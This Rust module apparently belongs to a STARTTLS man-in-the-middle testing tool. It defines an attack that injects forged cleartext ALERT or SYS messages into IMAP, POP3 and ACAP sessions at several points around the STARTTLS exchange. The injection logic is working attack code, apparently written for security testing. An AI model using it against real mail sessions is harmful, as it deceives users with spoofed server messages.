//! Sends an alert in the server's name.

use super::kit::TEXT;
use super::{Attack, Deciding, Group, group, tamper};
use crate::base::{Protocol, Side, Switch, switch};
use crate::harm::success;
use crate::trace::Verb;

switch!(
    Middle ALERT,
    "alert",
    Setting,
    &["early", "answer", "greeting", "in-front"],
    &[],
    "Moment",
    "Early in the session, in the clear behind the answer to STARTTLS, in the greeting itself (IMAP), or in front of the answer to STARTTLS."
);

static SWITCHES: &[&Switch] = &[&ALERT];

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
        given: &[],
        right: &[],
        wrong: &["client.shows-clear-alerts=on"],
    },
    Deciding {
        protocols: &[Protocol::Imap, Protocol::Acap],
        given: &["middle.alert=answer"],
        right: &[],
        wrong: &["client.keeps-buffer=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "alert-ui-spoof",
    title: "Forge an alert",
    about: "Sends a text in the clear that the protocol wants shown to the user: ALERT in IMAP and ACAP, SYS codes in POP3.",
    group: Group::Texts,
    known: &[group::USENIX],
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let when = switches.get(&ALERT);
        let (behind_answer, in_front) = (when == "answer", when == "in-front");
        let greets = when == "greeting" && dialect.protocol == Protocol::Imap;
        let alert = match dialect.protocol {
            Protocol::Imap => format!("* OK [ALERT] {TEXT}\r\n"),
            Protocol::Pop3 => format!("-ERR [SYS/PERM] {TEXT}\r\n"),
            Protocol::Acap => format!("* ALERT \"{TEXT}\"\r\n"),
        };
        let mut asked = false;
        tamper(move |message, moves| {
            let asks_for_list =
                message.from == Side::Client && dialect.tag_of(Verb::Capability, message.octets).is_some();
            // POP3 has no line that is not an answer.
            if dialect.protocol == Protocol::Pop3 && asks_for_list && !behind_answer && !in_front {
                moves.answer(alert.clone().into_bytes());
                return;
            }
            if greets && message.is_greeting() {
                moves.replace(alert.clone().into_bytes());
                return;
            }
            let answered = message.from == Side::Server && std::mem::take(&mut asked);
            if answered && in_front {
                moves.add(alert.clone().into_bytes());
            }
            moves.pass();
            if message.from == Side::Client {
                asked = dialect.starttls_tag(message.octets).is_some();
            }
            let early = !behind_answer && !in_front && dialect.protocol != Protocol::Pop3;
            if answered && behind_answer || early && message.is_greeting() {
                moves.add(alert.clone().into_bytes());
            }
        })
    },
    success: &success::DECEIVED,
    deciding: DECIDING,
};
